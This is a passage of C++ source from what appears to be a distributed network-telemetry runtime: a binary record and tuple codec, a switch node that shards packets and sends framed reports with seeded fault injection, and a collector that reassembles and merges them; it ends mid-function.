  put_u8(out, static_cast<std::uint8_t>(record.kind));
  put_u16(out, record.qid);
  put_u8(out, static_cast<std::uint8_t>(record.source_index));
  put_u16(out, static_cast<std::uint16_t>(record.level));
  put_u16(out, static_cast<std::uint16_t>(record.op_index));
  put_u64(out, record.ingest_ns);
  const std::size_t ncols = checked_columns(record.tuple.size(), "EmitRecord tuple");
  put_u8(out, static_cast<std::uint8_t>(ncols));
  for (std::size_t c = 0; c < ncols; ++c) {
    const auto& v = record.tuple.values[c];
    if (v.is_uint()) {
      put_u8(out, 0);
      put_u64(out, v.as_uint());
    } else {
      put_u8(out, 1);
      put_string(out, v.as_string(), "EmitRecord tuple");
    }
  }
}

void encode_tuple(const query::Tuple& tuple, std::vector<std::byte>& out) {
  const std::size_t ncols = checked_columns(tuple.size(), "tuple");
  put_u8(out, static_cast<std::uint8_t>(ncols));
  for (std::size_t c = 0; c < ncols; ++c) {
    const auto& v = tuple.values[c];
    if (v.is_uint()) {
      put_u8(out, 0);
      put_u64(out, v.as_uint());
    } else {
      put_u8(out, 1);
      put_string(out, v.as_string(), "tuple");
    }
  }
}

std::optional<query::Tuple> decode_tuple(std::span<const std::byte> data) {
  Reader r(data);
  const std::uint8_t ncols = r.u8();
  if (!r.ok()) return std::nullopt;
  query::Tuple tuple;
  tuple.values.reserve(ncols);
  for (std::uint8_t c = 0; c < ncols; ++c) {
    const std::uint8_t tag = r.u8();
    if (tag == 0) {
      tuple.values.emplace_back(r.u64());
    } else if (tag == 1) {
      const std::uint16_t len = r.u16();
      if (!r.ok()) return std::nullopt;
      tuple.values.emplace_back(query::Value{r.str(len)});
    } else {
      return std::nullopt;
    }
    if (!r.ok()) return std::nullopt;
  }
  if (!r.done()) return std::nullopt;
  return tuple;
}

std::optional<pisa::EmitRecord> decode_report(std::span<const std::byte> data) {
  Reader r(data);
  if (r.u16() != kReportMagic) return std::nullopt;
  pisa::EmitRecord record;
  const std::uint8_t kind = r.u8();
  if (kind > static_cast<std::uint8_t>(pisa::EmitRecord::Kind::kOverflow)) return std::nullopt;
  record.kind = static_cast<pisa::EmitRecord::Kind>(kind);
  record.qid = r.u16();
  record.source_index = r.u8();
  record.level = static_cast<std::int16_t>(r.u16());
  record.op_index = r.u16();
  record.ingest_ns = r.u64();
  const std::uint8_t ncols = r.u8();
  if (!r.ok()) return std::nullopt;
  record.tuple.values.reserve(ncols);
  for (std::uint8_t c = 0; c < ncols; ++c) {
    const std::uint8_t tag = r.u8();
    if (tag == 0) {
      record.tuple.values.emplace_back(r.u64());
    } else if (tag == 1) {
      const std::uint16_t len = r.u16();
      if (!r.ok()) return std::nullopt;
      record.tuple.values.emplace_back(query::Value{r.str(len)});
    } else {
      return std::nullopt;
    }
    if (!r.ok()) return std::nullopt;
  }
  if (!r.done()) return std::nullopt;  // trailing bytes: corrupted report
  return record;
}

}  // namespace sonata::runtime
