#include "runtime/distributed.h"

#include <algorithm>
#include <cassert>
#include <chrono>
#include <map>
#include <string_view>

#include "obs/metrics.h"
#include "obs/tracing.h"
#include "query/field.h"
#include "query/tuple.h"
#include "pisa/register.h"
#include "runtime/report.h"
#include "util/flat_table.h"
#include "util/hash.h"
#include "util/log.h"
#include "util/time.h"

namespace sonata::runtime {

namespace nt = net::transport;
using query::Tuple;
using std::chrono::milliseconds;
using std::chrono::steady_clock;

namespace {

// Protocol timing. The barrier is stop-and-wait: a switch node retransmits
// its kWindowEnd until the collector's feedback arrives (UDP can lose
// either direction; the collector re-sends its cached bundle on a
// duplicate), and gives up after the hard deadline.
constexpr int kConnectTimeoutMs = 30000;
constexpr int kHelloRetransmitMs = 200;
constexpr int kEndRetransmitMs = 1000;
constexpr int kBarrierTimeoutMs = 60000;
constexpr int kCollectorPollMs = 100;
constexpr int kCollectorIdleTimeoutMs = 120000;

// -- payload codec helpers (big endian, matching report.cc) --------------

void put_u8(std::vector<std::byte>& out, std::uint8_t v) {
  out.push_back(static_cast<std::byte>(v));
}
void put_u16(std::vector<std::byte>& out, std::uint16_t v) {
  out.push_back(static_cast<std::byte>(v >> 8));
  out.push_back(static_cast<std::byte>(v & 0xff));
}
void put_u32(std::vector<std::byte>& out, std::uint32_t v) {
  for (int shift = 24; shift >= 0; shift -= 8) {
    out.push_back(static_cast<std::byte>((v >> shift) & 0xff));
  }
}
void put_u64(std::vector<std::byte>& out, std::uint64_t v) {
  for (int shift = 56; shift >= 0; shift -= 8) {
    out.push_back(static_cast<std::byte>((v >> shift) & 0xff));
  }
}
// Count fields are written as a 0 placeholder and patched once the chunk
// is full (frames are built incrementally against the payload budget).
void patch_u32(std::vector<std::byte>& out, std::size_t pos, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) {
    out[pos + i] = static_cast<std::byte>((v >> (24 - 8 * i)) & 0xff);
  }
}

class PayloadReader {
 public:
  explicit PayloadReader(std::span<const std::byte> data) : data_(data) {}
  [[nodiscard]] bool ok() const noexcept { return ok_; }
  [[nodiscard]] bool done() const noexcept { return pos_ == data_.size(); }

  std::uint8_t u8() noexcept {
    if (pos_ + 1 > data_.size()) {
      ok_ = false;
      return 0;
    }
    return static_cast<std::uint8_t>(data_[pos_++]);
  }
  std::uint16_t u16() noexcept {
    const auto hi = u8();
    return static_cast<std::uint16_t>((hi << 8) | u8());
  }
  std::uint32_t u32() noexcept {
    std::uint32_t v = 0;
    for (int i = 0; i < 4; ++i) v = (v << 8) | u8();
    return v;
  }
  std::uint64_t u64() noexcept {
    std::uint64_t v = 0;
    for (int i = 0; i < 8; ++i) v = (v << 8) | u8();
    return v;
  }
  std::span<const std::byte> bytes(std::size_t n) noexcept {
    if (pos_ + n > data_.size()) {
      ok_ = false;
      return {};
    }
    const auto s = data_.subspan(pos_, n);
    pos_ += n;
    return s;
  }
  std::string str(std::size_t n) noexcept {
    const auto b = bytes(n);
    return {reinterpret_cast<const char*>(b.data()), b.size()};
  }

 private:
  std::span<const std::byte> data_;
  std::size_t pos_ = 0;
  bool ok_ = true;
};

// Milliseconds (>= 1) until `when`, for poll timeouts.
int ms_until(steady_clock::time_point when) {
  const auto now = steady_clock::now();
  if (when <= now) return 1;
  const auto ms = std::chrono::duration_cast<milliseconds>(when - now).count();
  return static_cast<int>(std::clamp<long long>(ms, 1, 1u << 30));
}

void counter_add(const char* name, std::uint64_t current, std::uint64_t& published) {
  obs::Registry::global().counter(name).add(current - published);
  published = current;
}

}  // namespace

// ======================================================================
// SwitchNode
// ======================================================================

SwitchNode::SwitchNode(const planner::Plan& plan, DistributedConfig cfg,
                       std::unique_ptr<nt::ReportTransport> transport)
    : plan_(plan),
      cfg_(std::move(cfg)),
      transport_(std::move(transport)),
      rng_(cfg_.faults.seed * 0x9e3779b97f4a7c15ull + cfg_.node_index + 1) {
  assert(cfg_.nodes >= 1 && cfg_.node_index < cfg_.nodes);
  assert(cfg_.switches >= 1);
  cfg_.batch = std::max<std::size_t>(cfg_.batch, 1);
  raw_mirror_ = StreamProcessor::plan_wants_raw_mirror(plan_);
  const fault::FaultSpec& f = cfg_.faults;
  frame_faults_ = f.drop_rate > 0 || f.dup_rate > 0 || f.reorder_rate > 0;
  record_faults_ = f.corrupt_rate > 0 || f.truncate_rate > 0;
  // Owned shards: the fleet-wide numbering striped across nodes. Every
  // node compiles the identical per-shard switch program the in-process
  // Fleet would have installed (including the register-pressure faults).
  for (std::size_t g = cfg_.node_index; g < cfg_.switches; g += cfg_.nodes) {
    auto shard = std::make_unique<OwnedShard>();
    shard->global = g;
    shard->sw = std::make_unique<pisa::Switch>(plan_.switch_config);
    shard->sw->set_obs_label(std::to_string(g));
    PipelineBuildOptions build_opts;
    build_opts.register_shrink = f.register_shrink;
    build_opts.hash_seed = f.hash_seed;
    PipelineBuild build = build_pipelines(plan_, {}, build_opts);
    const std::string err = shard->sw->install(std::move(build.pipelines), build.resources);
    assert(err.empty() && "plan does not fit the switch it was planned for");
    (void)err;
    shards_.push_back(std::move(shard));
  }
}

SwitchNode::~SwitchNode() = default;

const nt::TransportCounters& SwitchNode::transport_counters() const noexcept {
  return transport_->counters();
}

std::string SwitchNode::run(std::span<const net::Packet> trace) {
  std::string err = handshake();
  if (!err.empty()) return err;
  // Identical window split to TelemetryEngine::run_trace: every role
  // iterates the full shared trace, so window boundaries line up even for
  // a node that owns no packets in some window.
  const util::Nanos w = plan_.window;
  std::size_t begin = 0;
  std::uint64_t window = 0;
  while (begin < trace.size()) {
    const std::uint64_t idx = util::window_index(trace[begin].ts, w);
    std::size_t end = begin;
    while (end < trace.size() && util::window_index(trace[end].ts, w) == idx) ++end;
    for (std::size_t i = begin; i < end; ++i) ingest(trace[i]);
    err = close_window(window++, end == trace.size());
    if (!err.empty()) return err;
    begin = end;
  }
  if (window == 0) {
    // Empty trace: one final (empty) barrier so the collector terminates.
    err = close_window(0, true);
    if (!err.empty()) return err;
  }
  return "";
}

std::string SwitchNode::handshake() {
  std::string err = transport_->connect(kConnectTimeoutMs);
  if (!err.empty()) return err;
  nt::Frame hello;
  hello.type = nt::FrameType::kHello;
  hello.source = cfg_.node_index;
  put_u16(hello.payload, cfg_.node_index);
  put_u16(hello.payload, cfg_.nodes);
  put_u16(hello.payload, static_cast<std::uint16_t>(cfg_.switches));
  put_u16(hello.payload, kDistributedProto);
  const auto deadline = steady_clock::now() + milliseconds(kConnectTimeoutMs);
  for (;;) {
    if (!raw_send(hello)) return "transport send failed during handshake";
    nt::Frame in;
    if (transport_->poll(in, kHelloRetransmitMs) && in.type == nt::FrameType::kHelloAck) {
      PayloadReader r(in.payload);
      const std::uint16_t node = r.u16();
      const std::uint16_t proto = r.u16();
      if (r.ok() && node == cfg_.node_index && proto == kDistributedProto) return "";
      return "handshake rejected: node/protocol mismatch in hello-ack";
    }
    if (steady_clock::now() >= deadline) {
      return "handshake timed out waiting for the collector";
    }
  }
}

void SwitchNode::ingest(const net::Packet& packet) {
  // The Fleet's exact routing hash, over the fleet-wide shard count:
  // packet -> global shard is the same function in every deployment mode.
  const std::uint64_t flow =
      util::hash_combine(util::hash_combine(packet.src_ip, packet.dst_ip),
                         (static_cast<std::uint64_t>(packet.src_port) << 24) ^
                             (static_cast<std::uint64_t>(packet.dst_port) << 8) ^ packet.proto);
  const std::size_t g = static_cast<std::size_t>(flow % cfg_.switches);
  if (g % cfg_.nodes != cfg_.node_index) return;  // another process's shard
  OwnedShard& shard = *shards_[g / cfg_.nodes];
  ++shard.packets;
  ++stats_.packets;
  if (shard.pending == shard.scratch.size()) shard.scratch.emplace_back();
  query::materialize_tuple_into(packet, shard.scratch[shard.pending]);
  ++shard.pending;
  if (shard.pending >= cfg_.batch) flush_shard(shard);
}

void SwitchNode::flush_shard(OwnedShard& shard) {
  if (shard.pending == 0) return;
  const std::uint64_t ingest_ns = obs::enabled() ? obs::now_ns() : 0;
  process_tuples(shard, {shard.scratch.data(), shard.pending}, ingest_ns);
  shard.pending = 0;
}

void SwitchNode::process_tuples(OwnedShard& shard, std::span<Tuple> tuples,
                                std::uint64_t ingest_ns) {
  // Byte-for-byte the Fleet's per-shard compute step, so the records a
  // shard contributes are identical whether it lives in a thread or a
  // process.
  const std::uint64_t before = shard.sink.packets_with_records();
  const std::size_t recs_before = shard.sink.size();
  shard.sw->process_batch(tuples, shard.sink);
  if (ingest_ns != 0) {
    const std::span<pisa::EmitRecord> recs = shard.sink.records();
    for (std::size_t r = recs_before; r < recs.size(); ++r) recs[r].ingest_ns = ingest_ns;
  }
  if (raw_mirror_) {
    shard.raw_mirror_packets += tuples.size();
    shard.tuples_to_sp += tuples.size();
    for (Tuple& t : tuples) shard.raw_sources.push_back(std::move(t));
  } else {
    shard.tuples_to_sp += shard.sink.packets_with_records() - before;
  }
}

bool SwitchNode::raw_send(const nt::Frame& f) { return transport_->send(f); }

bool SwitchNode::send_data(nt::Frame f) {
  // Every data frame consumes a sequence number FIRST — an injected drop
  // leaves a real gap the collector's reassembly accounts exactly once.
  f.seq = data_seq_++;
  if (frame_faults_) {
    const double u = rng_.uniform01();
    double p = cfg_.faults.drop_rate;
    if (u < p) {
      ++stats_.tx_dropped;
      return true;
    }
    p += cfg_.faults.dup_rate;
    if (u < p) {
      ++stats_.tx_duplicated;
      return raw_send(f) && raw_send(f);
    }
    p += cfg_.faults.reorder_rate;
    if (u < p && !held_) {
      // Hold this frame past its successor; flush_held() bounds the delay
      // to the window barrier.
      ++stats_.tx_reordered;
      held_ = std::move(f);
      return true;
    }
  }
  if (held_) {
    const bool ok = raw_send(f) && raw_send(*held_);
    held_.reset();
    return ok;
  }
  return raw_send(f);
}

void SwitchNode::flush_held() {
  if (!held_) return;
  if (!raw_send(*held_)) note_send_failure("reorder-held data");
  held_.reset();
}

void SwitchNode::note_send_failure(const char* frame_kind) {
  SONATA_WARN("switch", "node %u: %s frame send failed",
              static_cast<unsigned>(cfg_.node_index), frame_kind);
  // On a datagram transport a failed send is indistinguishable from wire
  // loss and the collector's gap accounting covers it; in-order transports
  // never lose frames, so a failed send there is fatal for the window.
  if (transport_->kind() != nt::TransportKind::kUdp && send_err_.empty()) {
    send_err_ = std::string("transport send failed (") + frame_kind + " frame)";
  }
}

void SwitchNode::send_records(OwnedShard& shard) {
  if (!send_err_.empty()) return;
  const std::size_t max_payload = nt::max_frame_payload(transport_->kind());
  const auto recs = shard.sink.records();
  std::size_t i = 0;
  while (i < recs.size()) {
    nt::Frame f;
    f.type = nt::FrameType::kRecords;
    f.source = cfg_.node_index;
    put_u16(f.payload, static_cast<std::uint16_t>(shard.global));
    put_u32(f.payload, 0);
    std::uint32_t count = 0;
    while (i < recs.size()) {
      record_scratch_.clear();
      encode_report_into(recs[i], record_scratch_);
      if (record_faults_) {
        // Per-record wire faults inside the frame, mirroring the
        // in-process WireChannel: the record's length prefix stays
        // consistent, so exactly this record fails (or mis-)decodes.
        const double u = rng_.uniform01();
        if (u < cfg_.faults.corrupt_rate) {
          const std::size_t bit = rng_.uniform(record_scratch_.size() * 8);
          record_scratch_[bit / 8] ^= static_cast<std::byte>(1u << (bit % 8));
          ++stats_.corrupted;
        } else if (u < cfg_.faults.corrupt_rate + cfg_.faults.truncate_rate &&
                   record_scratch_.size() > 1) {
          record_scratch_.resize(rng_.uniform(record_scratch_.size() - 1) + 1);
          ++stats_.truncated;
        }
      }
      if (f.payload.size() + 4 + record_scratch_.size() > max_payload) {
        if (count > 0) break;  // frame full: ship it, start the next one
        // A single record that cannot fit even an empty frame would be sent
        // oversized (EMSGSIZE on UDP, a stuck shm ring): hard protocol error.
        send_err_ = "encoded record exceeds the transport's max frame payload";
        return;
      }
      put_u32(f.payload, static_cast<std::uint32_t>(record_scratch_.size()));
      f.payload.insert(f.payload.end(), record_scratch_.begin(), record_scratch_.end());
      ++count;
      ++i;
      ++stats_.records_sent;
    }
    patch_u32(f.payload, 2, count);
    if (!send_data(std::move(f))) note_send_failure("kRecords");
  }
}

void SwitchNode::send_raw(OwnedShard& shard) {
  if (!send_err_.empty()) return;
  const std::size_t max_payload = nt::max_frame_payload(transport_->kind());
  std::size_t i = 0;
  while (i < shard.raw_sources.size()) {
    nt::Frame f;
    f.type = nt::FrameType::kRaw;
    f.source = cfg_.node_index;
    put_u16(f.payload, static_cast<std::uint16_t>(shard.global));
    put_u32(f.payload, 0);
    std::uint32_t count = 0;
    while (i < shard.raw_sources.size()) {
      record_scratch_.clear();
      encode_tuple(shard.raw_sources[i], record_scratch_);
      if (f.payload.size() + 4 + record_scratch_.size() > max_payload) {
        if (count > 0) break;
        send_err_ = "encoded raw tuple exceeds the transport's max frame payload";
        return;
      }
      put_u32(f.payload, static_cast<std::uint32_t>(record_scratch_.size()));
      f.payload.insert(f.payload.end(), record_scratch_.begin(), record_scratch_.end());
      ++count;
      ++i;
      ++stats_.raw_sent;
    }
    patch_u32(f.payload, 2, count);
    if (!send_data(std::move(f))) note_send_failure("kRaw");
  }
}

void SwitchNode::send_partials(OwnedShard& shard) {
  if (!send_err_.empty()) return;
  const std::size_t max_payload = nt::max_frame_payload(transport_->kind());
  const auto& pipelines = shard.sw->pipelines();
  for (std::size_t p = 0; p < pipelines.size(); ++p) {
    if (!pipelines[p]->has_stateful_tail()) continue;
    const pisa::CompiledSwitchQuery::PolledPartial part = pipelines[p]->poll_partial();
    std::size_t i = 0;
    while (i < part.keys.size()) {
      nt::Frame f;
      f.type = nt::FrameType::kPartial;
      f.source = cfg_.node_index;
      put_u16(f.payload, static_cast<std::uint16_t>(shard.global));
      put_u32(f.payload, static_cast<std::uint32_t>(p));
      put_u32(f.payload, 0);
      std::uint32_t count = 0;
      while (i < part.keys.size()) {
        record_scratch_.clear();
        encode_tuple(part.keys[i], record_scratch_);
        if (f.payload.size() + 12 + record_scratch_.size() > max_payload) {
          if (count > 0) break;
          send_err_ = "encoded partial entry exceeds the transport's max frame payload";
          return;
        }
        put_u64(f.payload, part.values[i]);
        put_u32(f.payload, static_cast<std::uint32_t>(record_scratch_.size()));
        f.payload.insert(f.payload.end(), record_scratch_.begin(), record_scratch_.end());
        ++count;
        ++i;
        ++stats_.partial_entries_sent;
      }
      patch_u32(f.payload, 6, count);
      if (!send_data(std::move(f))) note_send_failure("kPartial");
    }
  }
}

std::string SwitchNode::close_window(std::uint64_t window, bool final) {
  std::uint64_t packets = 0;
  std::uint64_t tuples = 0;
  std::uint64_t raw = 0;
  for (auto& shard_ptr : shards_) flush_shard(*shard_ptr);
  // Ship per-shard contributions in ascending global shard order — the
  // collector replays this order, which is the Fleet's merge order.
  for (auto& shard_ptr : shards_) {
    OwnedShard& shard = *shard_ptr;
    send_records(shard);
    send_raw(shard);
    send_partials(shard);
    shard.sw->reset_all_registers();
    packets += shard.packets;
    tuples += shard.tuples_to_sp;
    raw += shard.raw_mirror_packets;
    shard.packets = 0;
    shard.tuples_to_sp = 0;
    shard.raw_mirror_packets = 0;
    shard.sink.clear();
    shard.raw_sources.clear();
  }
  flush_held();
  if (!send_err_.empty()) {
    std::string err = std::move(send_err_);
    send_err_.clear();
    return err;
  }
  nt::Frame end;
  end.type = nt::FrameType::kWindowEnd;
  end.source = cfg_.node_index;
  end.seq = data_seq_;  // next data seq: finalizes the collector's gap accounting
  put_u64(end.payload, window);
  put_u64(end.payload, packets);
  put_u64(end.payload, tuples);
  put_u64(end.payload, raw);
  put_u64(end.payload, stats_.tx_dropped);  // cumulative, for the loss-accounting gate
  put_u8(end.payload, final ? 1 : 0);
  if (!raw_send(end)) return "transport send failed at the window barrier";
  const std::string err = await_feedback(window, end);
  if (!err.empty()) return err;
  ++stats_.windows;
  publish_obs();
  return "";
}

std::string SwitchNode::await_feedback(std::uint64_t window, const nt::Frame& end) {
  const auto deadline = steady_clock::now() + milliseconds(kBarrierTimeoutMs);
  auto next_retx = steady_clock::now() + milliseconds(kEndRetransmitMs);
  bool acked = false;
  std::uint32_t expected = 0;
  // kWinners chunks are keyed by their seq (= chunk index): UDP can
  // reorder them, and the installs must replay in the collector's call
  // order.
  std::map<std::uint64_t, std::vector<std::byte>> winners;
  while (!acked || winners.size() < expected) {
    if (steady_clock::now() >= deadline) {
      return "window barrier timed out waiting for collector feedback";
    }
    nt::Frame in;
    if (transport_->poll(in, ms_until(std::min(next_retx, deadline)))) {
      if (in.type == nt::FrameType::kWindowAck) {
        PayloadReader r(in.payload);
        const std::uint64_t w = r.u64();
        const std::uint32_t exp = r.u32();
        (void)r.u8();  // collector's partial flag (informational)
        if (r.ok() && w == window) {
          acked = true;
          expected = exp;
        }
      } else if (in.type == nt::FrameType::kWinners) {
        PayloadReader r(in.payload);
        if (r.u64() == window && r.ok()) winners.emplace(in.seq, std::move(in.payload));
      }
      // kHelloAck / stale-window frames: ignore.
    } else if (steady_clock::now() >= next_retx) {
      // Stop-and-wait: either our kWindowEnd or the feedback got lost.
      raw_send(end);
      next_retx = steady_clock::now() + milliseconds(kEndRetransmitMs);
    }
  }
  // Apply the installs in chunk order — the same (table, winners) sequence
  // close_levels applied to the in-process switches, including empty
  // winner sets (which clear a table).
  for (auto& [seq, payload] : winners) {
    PayloadReader r(payload);
    (void)r.u64();  // window
    const std::uint32_t installs = r.u32();
    for (std::uint32_t k = 0; k < installs && r.ok(); ++k) {
      const std::uint16_t table_len = r.u16();
      const std::string table = r.str(table_len);
      const std::uint32_t nkeys = r.u32();
      std::vector<Tuple> keys;
      keys.reserve(nkeys);
      for (std::uint32_t j = 0; j < nkeys && r.ok(); ++j) {
        const std::uint32_t len = r.u32();
        auto decoded = decode_tuple(r.bytes(len));
        if (!decoded) return "malformed winner key in collector feedback";
        keys.push_back(std::move(*decoded));
      }
      if (!r.ok()) return "malformed winner install in collector feedback";
      for (auto& shard_ptr : shards_) {
        shard_ptr->sw->update_filter_entries(table, keys);
      }
      ++stats_.winner_installs;
    }
    if (!r.ok()) return "malformed winner frame in collector feedback";
  }
  return "";
}

void SwitchNode::publish_obs() {
  if (!obs::enabled()) return;
  const nt::TransportCounters& tc = transport_->counters();
  counter_add("sonata_net_tx_frames_total", tc.tx_frames, tc_pub_.tx_frames);
  counter_add("sonata_net_tx_bytes_total", tc.tx_bytes, tc_pub_.tx_bytes);
  counter_add("sonata_net_rx_frames_total", tc.rx_frames, tc_pub_.rx_frames);
  counter_add("sonata_net_rx_bytes_total", tc.rx_bytes, tc_pub_.rx_bytes);
  counter_add("sonata_net_tx_dropped_total", stats_.tx_dropped, obs_pub_.tx_dropped);
  counter_add("sonata_net_tx_duplicated_total", stats_.tx_duplicated, obs_pub_.tx_duplicated);
  counter_add("sonata_net_tx_reordered_total", stats_.tx_reordered, obs_pub_.tx_reordered);
  counter_add("sonata_net_records_sent_total", stats_.records_sent, obs_pub_.records_sent);
  counter_add("sonata_net_corrupted_total", stats_.corrupted, obs_pub_.corrupted);
  counter_add("sonata_net_truncated_total", stats_.truncated, obs_pub_.truncated);
}

// ======================================================================
// Collector
// ======================================================================

Collector::Collector(const planner::Plan& plan, DistributedConfig cfg,
                     std::unique_ptr<nt::CollectorEndpoint> endpoint)
    : plan_(plan),
      cfg_(std::move(cfg)),
      endpoint_(std::move(endpoint)),
      sp_(std::make_unique<StreamProcessor>(plan_)) {
  assert(cfg_.nodes >= 1 && cfg_.switches >= 1);
  PipelineBuild build = build_pipelines(plan_, {}, {});
  ref_pipelines_ = std::move(build.pipelines);
  nodes_.resize(cfg_.nodes);
  shards_.resize(cfg_.switches);
  for (auto& s : shards_) s.partials.resize(ref_pipelines_.size());
  sp_->set_winner_sink([this](const std::string& table, std::span<const Tuple> keys) {
    winner_installs_.emplace_back(table, std::vector<Tuple>(keys.begin(), keys.end()));
  });
}

Collector::~Collector() = default;

std::string Collector::listen() { return endpoint_->listen(); }

std::uint64_t Collector::full_mask() const noexcept {
  return cfg_.switches >= 64 ? ~0ull : ((1ull << cfg_.switches) - 1);
}

bool Collector::all_ended() const {
  bool any = false;
  for (const auto& n : nodes_) {
    if (n.done) continue;
    if (!n.end_seen) return false;
    any = true;
  }
  return any;
}

bool Collector::all_done() const {
  for (const auto& n : nodes_) {
    if (!n.done) return false;
  }
  return true;
}

std::string Collector::run(const WindowFn& on_window) {
  auto last_activity = steady_clock::now();
  std::vector<nt::Frame> frames;
  while (!all_done()) {
    frames.clear();
    if (!endpoint_->poll(frames, kCollectorPollMs)) {
      return "collector transport failed";
    }
    if (!frames.empty()) last_activity = steady_clock::now();
    for (nt::Frame& f : frames) {
      std::string err = handle(f);
      if (!err.empty()) return err;
    }
    if (all_ended()) {
      std::string err = close_current(on_window);
      if (!err.empty()) return err;
    }
    if (steady_clock::now() - last_activity > milliseconds(kCollectorIdleTimeoutMs)) {
      return "collector idle timeout: no frames from any node";
    }
  }
  return "";
}

std::string Collector::handle(nt::Frame& f) {
  if (f.source >= cfg_.nodes) return "";  // stray traffic: not one of our nodes
  NodeState& node = nodes_[f.source];
  switch (f.type) {
    case nt::FrameType::kHello: {
      PayloadReader r(f.payload);
      const std::uint16_t n = r.u16();
      const std::uint16_t nodes = r.u16();
      const std::uint16_t switches = r.u16();
      const std::uint16_t proto = r.u16();
      if (!r.ok()) return "malformed hello frame";
      if (n != f.source || nodes != cfg_.nodes || switches != cfg_.switches ||
          proto != kDistributedProto) {
        return "handshake mismatch: node " + std::to_string(n) + " announced nodes=" +
               std::to_string(nodes) + " switches=" + std::to_string(switches) + " proto=" +
               std::to_string(proto) + ", collector expects nodes=" +
               std::to_string(cfg_.nodes) + " switches=" + std::to_string(cfg_.switches) +
               " proto=" + std::to_string(kDistributedProto);
      }
      node.hello = true;
      nt::Frame ack;
      ack.type = nt::FrameType::kHelloAck;
      ack.source = f.source;
      put_u16(ack.payload, f.source);
      put_u16(ack.payload, kDistributedProto);
      if (!endpoint_->send_to(f.source, ack)) {
        // Idempotent: the node retransmits its hello until acked.
        SONATA_WARN("collector", "hello ack to node %u failed",
                    static_cast<unsigned>(f.source));
      }
      return "";
    }
    case nt::FrameType::kRecords: {
      PayloadReader r(f.payload);
      const std::uint16_t shard = r.u16();
      const std::uint32_t count = r.u32();
      if (!r.ok() || shard >= cfg_.switches || shard % cfg_.nodes != f.source) {
        return "malformed records frame";
      }
      ShardBuffer& sb = shards_[shard];
      for (std::uint32_t i = 0; i < count; ++i) {
        const std::uint32_t len = r.u32();
        const auto bytes = r.bytes(len);
        if (!r.ok()) return "malformed records frame";
        if (auto rec = decode_report(bytes)) {
          sb.records.push_back(std::move(*rec));
          ++stats_.records;
        } else {
          // Wire-corrupted record: counted, never delivered — the same
          // boundary behaviour as the in-process WireChannel.
          ++stats_.decode_failures;
        }
      }
      return "";
    }
    case nt::FrameType::kRaw: {
      PayloadReader r(f.payload);
      const std::uint16_t shard = r.u16();
      const std::uint32_t count = r.u32();
      if (!r.ok() || shard >= cfg_.switches || shard % cfg_.nodes != f.source) {
        return "malformed raw frame";
      }
      ShardBuffer& sb = shards_[shard];
      for (std::uint32_t i = 0; i < count; ++i) {
        const std::uint32_t len = r.u32();
        const auto bytes = r.bytes(len);
        if (!r.ok()) return "malformed raw frame";
        if (auto t = decode_tuple(bytes)) {
          sb.raws.push_back(std::move(*t));
          ++stats_.raw_tuples;
        } else {
          ++stats_.decode_failures;
        }
      }
      return "";
    }
    case nt::FrameType::kPartial: {
      PayloadReader r(f.payload);
      const std::uint16_t shard = r.u16();
      const std::uint32_t pipeline = r.u32();
      const std::uint32_t count = r.u32();
      if (!r.ok() || shard >= cfg_.switches || shard % cfg_.nodes != f.source ||
          pipeline >= ref_pipelines_.size()) {
        return "malformed partial frame";
      }
      auto& part = shards_[shard].partials[pipeline];
      for (std::uint32_t i = 0; i < count; ++i) {
        const std::uint64_t value = r.u64();
        const std::uint32_t len = r.u32();
        const auto bytes = r.bytes(len);
        if (!r.ok()) return "malformed partial frame";
        if (auto t = decode_tuple(bytes)) {
          part.keys.push_back(std::move(*t));
          part.values.push_back(value);
          ++stats_.partial_entries;
        } else {
          ++stats_.decode_failures;
        }
      }
      return "";
    }
    case nt::FrameType::kWindowEnd: {
      PayloadReader r(f.payload);
      const std::uint64_t w = r.u64();
      const std::uint64_t packets = r.u64();
      const std::uint64_t tuples = r.u64();
      const std::uint64_t raw = r.u64();
      const std::uint64_t dropped = r.u64();
      const std::uint8_t final_flag = r.u8();
      if (!r.ok()) return "malformed window-end frame";
      if (w + 1 == window_counter_ && node.feedback_window == w) {
        // Duplicate after we closed: the ack or the winners got lost on
        // the way down — re-send the cached bundle.
        send_feedback(node, f.source);
        return "";
      }
      if (w != window_counter_) return "";  // stale retransmission
      node.end_seen = true;
      node.packets = packets;
      node.tuples_to_sp = tuples;
      node.raw_mirror = raw;
      node.peer_dropped_cum = dropped;
      node.final_flag = final_flag != 0;
      return "";
    }
    default:
      return "";  // kWinners/kWindowAck/kHelloAck never arrive at the collector
  }
}

void Collector::combine_partials(WindowStats& /*window*/) {
  // The Fleet's combine_partials, verbatim, over the collector's per-shard
  // buffers: fold key-wise across ascending shard index per pipeline, so
  // executor-table insertion order — and therefore every downstream result
  // — matches the in-process close bit for bit.
  util::FlatMap<std::uint64_t> merged;
  std::vector<std::uint64_t> hashes;
  std::vector<Tuple> aggregates;
  for (std::size_t p = 0; p < ref_pipelines_.size(); ++p) {
    if (!ref_pipelines_[p]->has_stateful_tail()) continue;
    const pisa::CompiledSwitchQuery& pipe = *ref_pipelines_[p];
    const query::ReduceFn fn = pipe.tail_reduce_fn();
    std::uint64_t logical = 0;
    merged.clear();
    for (std::size_t i = 0; i < shards_.size(); ++i) {
      auto& part = shards_[i].partials[p];
      const std::size_t n = part.keys.size();
      logical += n;
      hashes.resize(n);
      query::hash_tuples({part.keys.data(), n}, hashes.data());
      for (std::size_t j = 0; j < n; ++j) {
        if (j + 4 < n) merged.prefetch(hashes[j + 4]);
        auto [slot, inserted] =
            merged.try_emplace(std::move(part.keys[j]), hashes[j], part.values[j]);
        if (!inserted) *slot = pisa::apply_reduce(fn, *slot, part.values[j]);
      }
      part.keys.clear();
      part.values.clear();
    }
    if (logical == 0) continue;
    aggregates.clear();
    aggregates.reserve(merged.size());
    for (const auto& e : merged.entries()) {
      aggregates.push_back(pipe.shape_polled(e.key, e.value));
    }
    const auto& o = pipe.options();
    sp_->ingest_polled(o.qid, o.level, o.source_index, pipe.poll_entry_op(), logical,
                       aggregates);
  }
}

std::string Collector::close_current(const WindowFn& on_window) {
  WindowStats ws;
  ws.window_index = window_counter_;
  ws.plan_version = plan_.version;
  // 1. Merge in ascending global shard order — the Fleet's merge order,
  //    independent of frame arrival interleaving across nodes.
  sp_->begin_delivery(obs::enabled() ? obs::now_ns() : 0);
  for (auto& sb : shards_) {
    for (pisa::EmitRecord& rec : sb.records) {
      const bool overflow = rec.kind == pisa::EmitRecord::Kind::kOverflow;
      if (sp_->deliver(std::move(rec)) && overflow) ++ws.overflow_records;
    }
